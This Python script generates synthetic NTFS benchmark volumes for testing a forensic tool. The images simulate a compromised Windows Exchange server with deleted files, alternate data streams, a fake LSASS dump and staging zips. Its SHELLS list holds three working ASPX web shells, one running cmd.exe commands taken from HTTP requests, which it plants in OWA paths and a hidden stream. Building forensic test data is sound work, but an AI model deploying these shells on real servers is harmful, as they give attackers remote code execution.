#!/usr/bin/env python3
"""Generates the big NTFS benchmark volumes (standard library only; run through gen_volumes.sh).

many.img  : >= 400,000 MFT records of small files in a Windows-server-like tree.
mixed.img : ~3.5 GiB, ~40,000 files, ~2 GB of mixed data: large, fragmented, a 300 MiB LSASS
            minidump, hard links, alternate data streams, web scripts, zips, deleted files.
mixed.E01 / mixed.vhdx / mixed.qcow2 : the same volume in containers.

Volumes are made with `mkntfs -F -Q` and filled through an ntfs-3g FUSE mount (big_writes,
streams_interface=windows) from this one process. Content and tree come from random.Random with
fixed seeds; MFT layout, timestamps and the volume serial come from ntfs-3g/mkntfs and the clock.
Images are built under a temporary name (`.part`) and renamed; `<name>.json` records how an output
was made and is the cache stamp, written last (output and stamp present = nothing to do, unless
--force; the containers are also remade when mixed.img is newer than they are).
"""
import argparse, io, json, os, random, struct, subprocess, sys, time, zipfile

MiB = 1 << 20
WORDS = ("system windows server microsoft update config service runtime data client host "
         "request response value error string public class return function module session "
         "exchange mailbox owa ecp auth logon token policy registry security driver network "
         "storage process thread memory buffer cache index record stream volume object").split()
BIN_EXT = ["dll", "exe", "sys", "mui", "cat", "dat", "bin", "pnf", "db"]
TXT_EXT = ["txt", "xml", "ini", "log", "manifest", "inf", "js", "css", "htm", "json", "ps1", "config"]
WEB_EXT = ["aspx", "aspx", "js", "css", "htm", "config", "ashx", "png", "gif"]

ASPX = (b'<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" %>\r\n'
        b'<html><head runat="server"><title>Outlook</title></head><body>\r\n'
        b'<form id="form1" runat="server"><asp:Label ID="l" runat="server" Text="<%# Eval(\\"Title\\") %>" />\r\n'
        b'</form></body></html>\r\n')
SHELLS = [
    b'<%@ Page Language="Jscript"%><%eval(Request.Item["exec_code"],"unsafe");%>\r\n',
    b'<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>\r\n',
    b'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><% var p = new ProcessStartInfo("cmd.exe", "/c " + '
    b'Request["c"]); p.RedirectStandardOutput = true; p.UseShellExecute = false; Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); %>\r\n',
]


class Content:
    """Deterministic file contents: text-like, random binary, compressible."""

    def __init__(self, seed):
        self.r = random.Random(seed)
        lines = []
        for i in range(60000):
            n = self.r.randint(4, 14)
            lines.append(" ".join(self.r.choice(WORDS) for _ in range(n)) + f" {i:06d}\r\n")
        self.text = "".join(lines).encode()  # ~4 MiB

    def textlike(self, n):
        out = bytearray()
        while len(out) < n:
            o = self.r.randrange(len(self.text) - 1)
            out += self.text[o:o + n - len(out)]
        return bytes(out)

    def binary(self, n, mz=False):
        b = self.r.randbytes(n)
        return (b"MZ\x90\x00\x03\x00\x00\x00" + b[8:]) if mz and n > 64 else b

    def compressible(self, n):
        rec = self.textlike(200) + bytes(312)
        return (rec * (n // len(rec) + 1))[:n]

    def for_ext(self, ext, n):
        if ext in ("dll", "exe", "sys", "mui"):
            return self.binary(n, mz=True)
        if ext in BIN_EXT or ext in ("png", "gif", "zip"):
            return self.binary(n)
        if ext in ("log", "edb"):
            return self.compressible(n)
        if ext == "aspx":
            return (ASPX * (n // len(ASPX) + 1))[:max(n, len(ASPX))]
        return self.textlike(n)


class Mount:
    """A fresh sparse image, mkntfs -F -Q, mounted by ntfs-3g in the foreground (no_detach) so
    leaving the block unmounts and waits until ntfs-3g has written everything."""

    def __init__(self, img, size, label, work):
        self.img, self.size, self.label, self.work = img, size, label, work
        self.mnt = os.path.join(work, "mnt-" + label)

    def __enter__(self):
        with open(self.img, "wb") as f:
            f.truncate(self.size)
        subprocess.run(["mkntfs", "-F", "-Q", "-q", "-L", self.label, self.img], check=True,
                       stderr=subprocess.DEVNULL)
        os.makedirs(self.mnt, exist_ok=True)
        self.log = open(os.path.join(self.work, f"ntfs-3g-{self.label}.log"), "wb")
        self.proc = subprocess.Popen(
            ["ntfs-3g", "-o", "big_writes,streams_interface=windows,no_detach", self.img, self.mnt],
            stdout=self.log, stderr=self.log)
        for _ in range(200):
            if os.path.ismount(self.mnt):
                return self.mnt
            if self.proc.poll() is not None:
                break
            time.sleep(0.05)
        raise SystemExit(f"ntfs-3g did not mount {self.img} (see {self.log.name})")

    def __exit__(self, *exc):
        os.sync()
        subprocess.run(["umount", self.mnt], check=False)
        try:
            self.proc.wait(timeout=600)
        finally:
            self.log.close()
        os.rmdir(self.mnt)


def word(r):
    return r.choice(WORDS)


def tree_spec(r, scale, winsxs_fill):
    """[(dir, nfiles, ext list)]: a Windows-server-like tree; WinSxS components fill up to
    winsxs_fill files in total."""
    s = lambda n: max(1, int(n * scale))
    ex = "Program Files/Microsoft/Exchange Server/V15"
    spec = [
        ("Windows/System32", s(4000), BIN_EXT + TXT_EXT[:3]),
        ("Windows/System32/drivers", s(500), ["sys"]),
        ("Windows/System32/drivers/etc", 5, ["txt"]),
        ("Windows/System32/en-US", s(1200), ["mui"]),
        ("Windows/System32/wbem", s(600), ["dll", "mof", "mfl", "exe"]),
        ("Windows/System32/config/systemprofile", 20, ["dat", "log"]),
        ("Windows/SysWOW64", s(3000), BIN_EXT),
        ("Windows/WinSxS/Manifests", s(20000), ["manifest"]),
        ("Windows/Temp", s(100), TXT_EXT + ["tmp"]),
        ("Windows/Microsoft.NET/Framework64/v4.0.30319", s(2000), ["dll", "exe", "config", "xml"]),
        ("inetpub/wwwroot", s(60), WEB_EXT),
        ("inetpub/wwwroot/aspnet_client/system_web/4_0_30319", 3, ["aspx"]),
        (f"{ex}/FrontEnd/HttpProxy/owa/auth", 30, ["aspx", "aspx", "js", "css"]),
        (f"{ex}/FrontEnd/HttpProxy/owa/auth/15.1.2176/scripts/premium", s(400), ["js"]),
        (f"{ex}/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/resources", s(300), ["png", "gif", "css"]),
        (f"{ex}/FrontEnd/HttpProxy/ecp/auth", 5, ["aspx"]),
        (f"{ex}/ClientAccess/Owa/prem/15.1.2176/scripts", s(1000), ["js"]),
        (f"{ex}/ClientAccess/ecp", s(800), WEB_EXT),
        (f"{ex}/Bin", s(2500), ["dll", "exe", "config", "xml"]),
    ]
    for i in range(s(120)):
        spec.append((f"Windows/System32/DriverStore/FileRepository/{word(r)}{i}.inf_amd64_{r.getrandbits(64):016x}",
                     r.randint(3, s(60) + 3), ["inf", "sys", "cat", "pnf", "dll"]))
    for i in range(s(150)):
        spec.append((f"Windows/assembly/GAC_MSIL/Microsoft.{word(r).title()}{i}/v4.0_15.0.0.0__31bf3856ad364e35",
                     r.randint(1, 5), ["dll"]))
    for i in range(10):
        spec.append((f"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/{word(r)}{i}/{r.getrandbits(32):08x}",
                     s(30), ["dll", "xml", "compiled"]))
    for p in range(s(25) + 5):
        base = f"Program Files{' (x86)' if p % 3 == 0 else ''}/{word(r).title()} Corp/{word(r).title()}{p}"
        for sub in ("bin", "lib", "resources", "locales"):
            spec.append((f"{base}/{sub}", r.randint(s(20), s(400)), BIN_EXT + TXT_EXT))
    for u in ("Administrator", "svc_exchange", "jdoe", "asmith"):
        up = f"Users/{u}"
        for c in range(4):
            spec.append((f"{up}/AppData/Local/Microsoft/Windows/INetCache/IE/{r.getrandbits(40):010X}", s(300), ["htm", "js", "png", "gif", "css"]))
        spec += [(f"{up}/AppData/Local/Temp", s(200), TXT_EXT + ["tmp"]),
                 (f"{up}/AppData/Roaming/Microsoft/Windows/Recent", s(50), ["lnk"]),
                 (f"{up}/Documents", s(100), TXT_EXT + ["docx", "xlsx", "pdf"]),
                 (f"{up}/Downloads", s(20), ["exe", "zip", "msi", "pdf"])]
    total = sum(n for _, n, _ in spec)
    i = 0
    while total < winsxs_fill:
        n = min(r.randint(s(30), s(700)), winsxs_fill - total)
        spec.append((f"Windows/WinSxS/amd64_microsoft-windows-{word(r)}-{word(r)}{i}_31bf3856ad364e35_10.0.17763.{r.randint(1, 2000)}_none_{r.getrandbits(64):016x}",
                     n, BIN_EXT + ["manifest"]))
        total += n
        i += 1
    return spec


def fill_tree(mnt, spec, r, c, size_fn):
    """Creates every directory and file of spec; returns (files, dirs, bytes, paths)."""
    dirs, files, nbytes, paths, made = 0, 0, 0, [], set()
    for d, n, exts in spec:
        full = os.path.join(mnt, d)
        if full not in made:
            parts = d.split("/")
            for k in range(1, len(parts) + 1):
                p = os.path.join(mnt, *parts[:k])
                if p not in made:
                    if not os.path.isdir(p):
                        os.mkdir(p)
                        dirs += 1
                    made.add(p)
        for i in range(n):
            ext = r.choice(exts)
            name = f"{word(r)}{r.choice(('', '_', '-', 'Svc', 'Host'))}{i}.{ext}"
            data = c.for_ext(ext, size_fn(r))
            p = os.path.join(full, name)
            with open(p, "wb") as f:
                f.write(data)
            files += 1
            nbytes += len(data)
            paths.append(p)
    return files, dirs, nbytes, paths


def put(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def gen_many(out, work, files_target):
    r, c = random.Random(400), Content(401)
    spec = tree_spec(r, 1.0, files_target)

    def size(r):
        x = r.random()
        return r.randint(60, 650) if x < 0.45 else r.randint(651, 4096) if x < 0.90 else r.randint(4097, 32768)

    t0 = time.time()
    with Mount(out, 3 << 30, "MANY", work) as mnt:
        files, dirs, nbytes, paths = fill_tree(mnt, spec, r, c, size)
        ex = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
        put(f"{mnt}/{ex}/errorEE.aspx", SHELLS[0])
        put(f"{mnt}/inetpub/wwwroot/aspnet_client/system_web/Xk4bN8Qa.aspx", SHELLS[2])
        deleted = r.sample(paths, len(paths) // 100)  # 1 % deleted, records left as they are
        for p in deleted:
            os.unlink(p)
        t_fill = time.time() - t0
    return {"files_created": files + 2, "dirs": dirs, "deleted": len(deleted), "bytes": nbytes,
            "fill_seconds": round(t_fill, 1), "total_seconds": round(time.time() - t0, 1),
            "files_per_second": round((files + 2 + dirs) / t_fill)}


def minidump(c, size):
    """A minidump header, a module list naming lsass.exe and friends, then memory-like blocks."""
    mods = [r"C:\Windows\System32\lsass.exe", r"C:\Windows\SYSTEM32\ntdll.dll",
            r"C:\Windows\System32\KERNELBASE.dll", r"C:\Windows\system32\lsasrv.dll",
            r"C:\Windows\system32\msv1_0.dll", r"C:\Windows\system32\wdigest.DLL"]
    list_rva = 32 + 2 * 12
    list_size = 4 + 108 * len(mods)
    names_rva = list_rva + list_size
    names, mod_bytes = b"", b""
    for i, m in enumerate(mods):
        u = m.encode("utf-16-le")
        mod_bytes += struct.pack("<QIIII", 0x7FF6_0000_0000 + i * 0x100000, 0x80000, 0, 0x5F000000, names_rva + len(names))
        mod_bytes += bytes(108 - 24)
        names += struct.pack("<I", len(u)) + u + b"\0\0"
    head = b"MDMP" + struct.pack("<IIIIIQ", 0xA793, 2, 32, 0, 0x6040_0000, 0x421826)
    head += struct.pack("<III", 7, 56, names_rva + len(names)) + struct.pack("<III", 4, list_size, list_rva)
    head += struct.pack("<I", len(mods)) + mod_bytes + names + bytes(56)
    yield head
    left = size - len(head)
    while left > 0:
        n = min(MiB, left)
        k = c.r.random()
        yield c.binary(n) if k < 0.5 else bytes(n) if k < 0.7 else c.textlike(n)
        left -= n


def gen_mixed(out, work, files_target):
    r, c = random.Random(4040), Content(4041)
    spec = [(d, n, exts + ["bin", "txt", "log"]) for d, n, exts in tree_spec(r, 0.1, files_target - 200)]

    def size(r):
        x = r.random()
        lo, hi = (100, 64 << 10) if x < 0.95 else (64 << 10, 1 << 20)
        return int(lo * (hi / lo) ** r.random())

    t0 = time.time()
    stats = {}
    with Mount(out, 3584 * MiB, "MIXED", work) as mnt:
        files, dirs, nbytes, paths = fill_tree(mnt, spec, r, c, size)
        # Large files: random, compressible, mixed.
        big = [("Users/Administrator/Downloads/en_windows_server_2019_x64.iso", 200, "binary"),
               ("ProgramData/Backup/exchange-config-2021-03-01.bak", 250, "compressible"),
               ("Program Files/Microsoft/Exchange Server/V15/Mailbox/Mailbox Database 0451/db.edb", 120, "mixed")]
        for p, mib, kind in big:
            os.makedirs(os.path.dirname(f"{mnt}/{p}"), exist_ok=True)
            with open(f"{mnt}/{p}", "wb") as f:
                for i in range(mib):
                    k = kind if kind != "mixed" else ("binary", "compressible", "text")[i % 3]
                    f.write(c.binary(MiB) if k == "binary" else c.compressible(MiB) if k == "compressible" else c.textlike(MiB))
        # The LSASS minidump.
        os.makedirs(f"{mnt}/Windows/Temp", exist_ok=True)
        with open(f"{mnt}/Windows/Temp/lsass.dmp", "wb") as f:
            for block in minidump(c, 300 * MiB):
                f.write(block)
        # Fragmented files. ntfs-3g places a new file in the largest free range and extends it
        # from its end, so interleaved appends stay contiguous. Instead: 5,120 spacer files of
        # 64 KiB, the rest of the volume filled until ENOSPC, every other spacer deleted, then
        # 8 files of 150 MiB in all written into the holes (hundreds of runs each); filler deleted.
        # Spacers and filler are truncated before they are deleted, so that their deleted records
        # do not claim clusters now used by other files.
        fd = f"{mnt}/ProgramData/Microsoft/Search/Data/Applications/Windows"
        os.makedirs(fd, exist_ok=True)
        hs = [os.open(f"{fd}/frag{i}.edb", os.O_WRONLY | os.O_CREAT | os.O_TRUNC) for i in range(8)]
        sd = f"{mnt}/Windows/SoftwareDistribution/Download/{r.getrandbits(128):032x}"
        os.makedirs(sd)
        for i in range(5120):
            with open(f"{sd}/chunk{i:05d}.cab", "wb") as f:
                f.write(c.binary(64 << 10))
        filler = os.open(f"{mnt}/filler.tmp", os.O_WRONLY | os.O_CREAT)
        n = 8 * MiB
        while n >= 4096:
            try:
                os.write(filler, bytes(n))
            except OSError:
                n //= 2
        os.close(filler)
        for i in range(0, 5120, 2):  # truncated first: no deleted record claims the clusters
            os.truncate(f"{sd}/chunk{i:05d}.cab", 0)
            os.unlink(f"{sd}/chunk{i:05d}.cab")
        for _ in range(300):
            for h in hs:
                os.write(h, c.binary(64 << 10) if c.r.random() < 0.5 else c.textlike(64 << 10))
        for h in hs:
            os.close(h)
        os.truncate(f"{mnt}/filler.tmp", 0)
        os.unlink(f"{mnt}/filler.tmp")
        files += 2560
        # Hard links (WinSxS style: System32 files linked into components), 2..5 names.
        links = 0
        for i, p in enumerate(r.sample([p for p in paths if "/System32/" in p], 6)):
            for k in range(1 + i % 4):
                d = f"{mnt}/Windows/WinSxS/amd64_microsoft-windows-hardlinked{i}_31bf3856ad364e35_10.0.17763.1_none_{k:016x}"
                os.makedirs(d, exist_ok=True)
                os.link(p, f"{d}/{os.path.basename(p)}")
                links += 1
        # Alternate data streams: Zone.Identifier on downloads, binary ADS, a web shell in an ADS.
        ads = 0
        for p in r.sample(paths, 40):
            with open(p + ":Zone.Identifier", "wb") as f:
                f.write(b"[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=http://203.0.113.7/x.exe\r\n")
            ads += 1
        for p in r.sample(paths, 3):
            with open(p + ":payload", "wb") as f:
                f.write(c.binary(MiB, mz=True))
            ads += 1
        put(f"{mnt}/inetpub/wwwroot/iisstart.htm", b"<html><body>IIS</body></html>\r\n")
        with open(f"{mnt}/inetpub/wwwroot/iisstart.htm:hidden.aspx", "wb") as f:
            f.write(SHELLS[1])
        ads += 1
        # Web scripts.
        ac = f"{mnt}/inetpub/wwwroot/aspnet_client/system_web/4_0_30319"
        for i in range(12):
            put(f"{ac}/{word(r)}{i}.aspx", ASPX + c.textlike(r.randint(200, 4000)))
        put(f"{mnt}/inetpub/wwwroot/aspnet_client/system_web/HMcuIqPv.aspx", SHELLS[0])
        put(f"{mnt}/inetpub/wwwroot/aspnet_client/supp0rt.aspx", SHELLS[2])
        owa = f"{mnt}/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
        put(f"{owa}/RedirSuiteServerProxy.aspx", ASPX + SHELLS[1])
        # Zips (fixed dates): staged in ProgramData, tools, an update package.
        zips = [("ProgramData/staging/out.zip", ["lsass.dmp", "ntds.dit.txt"]),
                ("Users/Administrator/Downloads/tools.zip", ["procdump64.exe", "readme.txt", "nc.exe"]),
                ("Program Files/Common Files/update/package.zip", [f"file{i}.dll" for i in range(20)])]
        for p, members in zips:
            b = io.BytesIO()
            with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
                for m in members:
                    data = c.binary(r.randint(10000, 400000), mz=m.endswith((".exe", ".dll"))) if not m.endswith(".txt") else c.textlike(50000)
                    z.writestr(zipfile.ZipInfo(m, date_time=(2021, 3, 3, 4, 5, 6)), data)
            put(f"{mnt}/{p}", b.getvalue())
        deleted = r.sample(paths, 300)
        for p in deleted:
            if os.path.exists(p):
                os.unlink(p)
        t_fill = time.time() - t0
        st = os.statvfs(mnt)
        stats["used_bytes"] = (st.f_blocks - st.f_bfree) * st.f_frsize
    total_files = files + len(big) + 1 + 8 + 12 + 3 + len(zips) + 1
    stats.update({"files_created": total_files, "dirs": dirs, "hard_links_added": links, "ads": ads,
                  "deleted": len(deleted), "fill_seconds": round(t_fill, 1),
                  "total_seconds": round(time.time() - t0, 1),
                  "files_per_second": round((total_files + dirs) / t_fill)})
    return stats


def convert(raw, out, fmt, work):
    t0 = time.time()
    if fmt == "E01":
        base = out[:-4]
        for f in os.listdir(work):
            if f.startswith(os.path.basename(base) + ".E") and f[-2:].isdigit():
                os.unlink(os.path.join(work, f))
        subprocess.run(["ewfacquire", "-u", "-q", "-c", "deflate:fast", "-S", "8GiB", "-t", base,
                        "-C", "bench", "-D", "deadbox benchmark volume", "-E", "mixed",
                        "-e", "gen_volumes", "-N", "generated", raw],
                       check=True, stdout=subprocess.DEVNULL)
    else:
        subprocess.run(["qemu-img", "convert", "-f", "raw", "-O", fmt.lower(), raw, out + ".tmp"], check=True)
        os.replace(out + ".tmp", out)
    return {"seconds": round(time.time() - t0, 1), "file_bytes": os.path.getsize(out)}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dir", default=os.environ.get("DEADBOX_BENCH_DIR", "/var/tmp/deadbox-bench"))
    ap.add_argument("--force", action="store_true", help="rebuild even when the outputs exist")
    ap.add_argument("--many-files", type=int, default=405_000)
    ap.add_argument("--mixed-files", type=int, default=40_000)
    ap.add_argument("--only", choices=["many", "mixed", "containers"], action="append")
    a = ap.parse_args()
    os.makedirs(a.dir, exist_ok=True)
    jobs = [("many", "many.img", lambda o: gen_many(o, a.dir, a.many_files)),
            ("mixed", "mixed.img", lambda o: gen_mixed(o, a.dir, a.mixed_files))]
    for fmt in ("E01", "vhdx", "qcow2"):
        jobs.append(("containers", f"mixed.{fmt}", lambda o, fmt=fmt: convert(os.path.join(a.dir, "mixed.img"), o, fmt, a.dir)))
    for group, name, fn in jobs:
        if a.only and group not in a.only:
            continue
        out, stamp = os.path.join(a.dir, name), os.path.join(a.dir, name + ".json")
        raw = os.path.join(a.dir, "mixed.img")
        stale = group == "containers" and os.path.exists(out) and os.path.exists(raw) \
            and os.path.getmtime(out) < os.path.getmtime(raw)
        if os.path.exists(out) and os.path.exists(stamp) and not a.force and not stale:
            print(f"{name}: cached ({stamp})", file=sys.stderr)
            continue
        if os.path.exists(stamp):
            os.unlink(stamp)
        tmp = out if name.endswith("E01") else out + ".part"
        print(f"{name}: building…", file=sys.stderr, flush=True)
        info = fn(tmp if not name.endswith(("vhdx", "qcow2")) else out)
        if tmp != out and os.path.exists(tmp):
            os.replace(tmp, out)
        info["size_bytes"] = os.path.getsize(out)
        info["made"] = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
        with open(stamp, "w") as f:
            json.dump(info, f, indent=1)
        print(f"{name}: {json.dumps(info)}", file=sys.stderr, flush=True)


if __name__ == "__main__":
    main()
